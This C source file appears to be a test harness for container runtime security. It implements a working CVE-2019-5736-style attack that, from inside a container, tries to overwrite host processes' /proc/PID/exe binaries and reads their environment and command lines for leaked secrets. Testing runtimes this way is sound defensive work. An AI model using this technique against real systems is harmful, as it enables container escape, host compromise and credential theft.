/* CVE-2019-5736-style attacker, run as root inside a container by test_runtime_exec.py.

   usage: exe_attack SECONDS MARKER OUTFILE

   Watches the container's /proc for processes whose executable is not one of the container's
   own (busybox, this program). For each: open /proc/PID/exe for writing (append), keep an
   O_PATH handle and keep retrying to reopen it for writing through /proc/self/fd/N after the
   process is gone ("text file busy" clears), and read /proc/PID/environ and cmdline looking for
   MARKER. Every finding is a line in OUTFILE: "WROTE ...", "LEAK ...", "SEEN ...". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAXPID 4194304
#define MAXHELD 512

static FILE *out;
static const char *marker;
static int held[MAXHELD], nheld;
static ino_t *seen_ino;

static void scan_file(int pid, const char *what) {
    char p[64], buf[65536];
    snprintf(p, sizeof p, "/proc/%d/%s", pid, what);
    int fd = open(p, O_RDONLY);
    if (fd < 0) {
        fprintf(out, "DENIED %s %d %s\n", what, pid, strerror(errno));
        return;
    }
    ssize_t n, tot = 0;
    while (tot < (ssize_t)sizeof buf - 1 && (n = read(fd, buf + tot, sizeof buf - 1 - tot)) > 0)
        tot += n;
    close(fd);
    if (tot > 0 && memmem(buf, tot, marker, strlen(marker)))
        fprintf(out, "LEAK %s %d\n", what, pid);
}

static void try_write(int fd, const char *how, int pid) {
    if (write(fd, "PWNED", 5) == 5)
        fprintf(out, "WROTE %s %d\n", how, pid);
    else
        fprintf(out, "WRITEFAIL %s %d %s\n", how, pid, strerror(errno));
    close(fd);
}

static struct stat self, bb;

/* the container's own programs (busybox, this one): writing them is no escape */
static int own(int fd) {
    struct stat st;
    if (fstat(fd, &st) != 0)
        return 0;
    return (st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
           (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino);
}

int main(int argc, char **argv) {
    if (argc != 4)
        return 2;
    time_t end = time(NULL) + atoi(argv[1]);
    marker = argv[2];
    out = fopen(argv[3], "w");
    if (!out)
        return 3;
    setvbuf(out, NULL, _IOLBF, 0);
    seen_ino = calloc(MAXPID, sizeof *seen_ino);
    stat("/proc/self/exe", &self);
    if (stat("/bin/busybox", &bb) != 0)
        memset(&bb, 0, sizeof bb);
    int me = getpid();
    fprintf(out, "READY %d\n", me);
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == me || pid >= MAXPID)
                continue;
            char p[64], link[4096];
            struct stat st;
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int have = stat(p, &st) == 0;
            if (have && ((st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
                         (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)))
                continue; /* the container's own programs */
            ino_t key = have ? st.st_ino : 1;
            if (seen_ino[pid] == key)
                continue;
            seen_ino[pid] = key;
            ssize_t n = readlink(p, link, sizeof link - 1);
            link[n > 0 ? n : 0] = 0;
            fprintf(out, "SEEN %d exe=%s stat=%s\n", pid, link, have ? "ok" : strerror(errno));
            scan_file(pid, "environ");
            scan_file(pid, "cmdline");
            int fd = open(p, O_WRONLY | O_APPEND);
            if (fd >= 0 && !own(fd)) /* it may have exec'd one of ours meanwhile */
                try_write(fd, "direct", pid);
            else if (fd >= 0)
                close(fd);
            else
                fprintf(out, "OPENFAIL %d %s\n", pid, strerror(errno));
            int pf = open(p, O_PATH);
            if (pf >= 0 && !own(pf) && nheld < MAXHELD)
                held[nheld++] = pf;
            else if (pf >= 0)
                close(pf);
        }
        if (d)
            closedir(d);
        for (int i = 0; i < nheld; i++) {
            char p[64];
            if (held[i] < 0)
                continue;
            snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
            int fd = open(p, O_WRONLY | O_APPEND);
            if (fd >= 0) {
                try_write(fd, "reopen", held[i]);
                close(held[i]);
                held[i] = -1;
            } else if (errno != ETXTBSY) {
                fprintf(out, "REOPENFAIL %d %s\n", held[i], strerror(errno));
                close(held[i]);
                held[i] = -1;
            }
        }
        usleep(300);
    }
    fprintf(out, "DONE\n");
    return 0;
}
